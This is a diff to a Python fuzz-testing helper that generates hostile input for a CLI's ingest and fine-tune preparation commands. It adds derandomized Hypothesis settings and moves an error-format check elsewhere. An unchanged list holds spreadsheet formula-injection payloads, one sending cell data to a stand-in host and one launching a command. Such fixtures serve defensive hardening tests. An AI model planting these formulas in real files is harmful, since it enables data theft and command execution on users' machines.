@@ -1,6 +1,6 @@
 """Generated hostile input for `pma finetune prepare` and `pma ingest`, and the checks every case must pass.
 
-Shared by ``tests/test_hardening_fuzz.py`` (a few dozen cases per run, in CI) and ``bench/hardening_fuzz.py``
+Shared by ``tests/test_ingest_fuzz.py``, ``tests/test_finetune_fuzz.py`` (a few dozen cases per run, in CI) and ``bench/hardening_fuzz.py``
 (thousands, with counts). Each ``check_*`` returns an outcome instead of raising, so a bench can count crashes:
 
 - ``"ok"``: the command succeeded and every row is accounted for;
@@ -19,7 +19,9 @@ import io
 import json
 from pathlib import Path
 
-from hypothesis import strategies as st
+from hypothesis import HealthCheck, settings, strategies as st
+
+from tests.support.cli import one_line_error
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "=1+1"]
 BOMS = [b"", b"\xef\xbb\xbf", b"\xff\xfe", b"\xfe\xff"]
@@ -31,6 +33,11 @@ HOSTILE_TEXT = [
 text = st.one_of(st.text(max_size=40), st.sampled_from(HOSTILE_TEXT))
 json_value = st.one_of(text, st.integers(), st.floats(allow_nan=True), st.booleans(), st.none(),
                        st.lists(st.integers(), max_size=3))
+
+
+def fuzz(n: int):
+    """Hypothesis settings for ``n`` derandomized examples (the same cases every run: CI stays reproducible)."""
+    return settings(max_examples=n, deadline=None, suppress_health_check=list(HealthCheck), derandomize=True)
 
 
 # ---- training data (`pma finetune prepare`) ---------------------------------------------------------------------
@@ -93,16 +100,6 @@ def write_case(folder: Path, name: str, data: bytes) -> Path:
     path = folder / name
     path.write_bytes(data)
     return path
-
-
-def one_line_error(err: str) -> bool:
-    """The CLI's user-error contract: exactly one line, starting with ``Error:``.
-
-    Progress bars are not lines: tqdm redraws them with carriage returns on stderr, so a stderr line holding a
-    carriage return is a bar (finished or not) and is left out.
-    """
-    lines = [line for line in err.split("\n") if line.strip() and "\r" not in line]
-    return len(lines) == 1 and lines[0].startswith("Error: ")
 
 
 def check_read_inputs(path: Path) -> str:
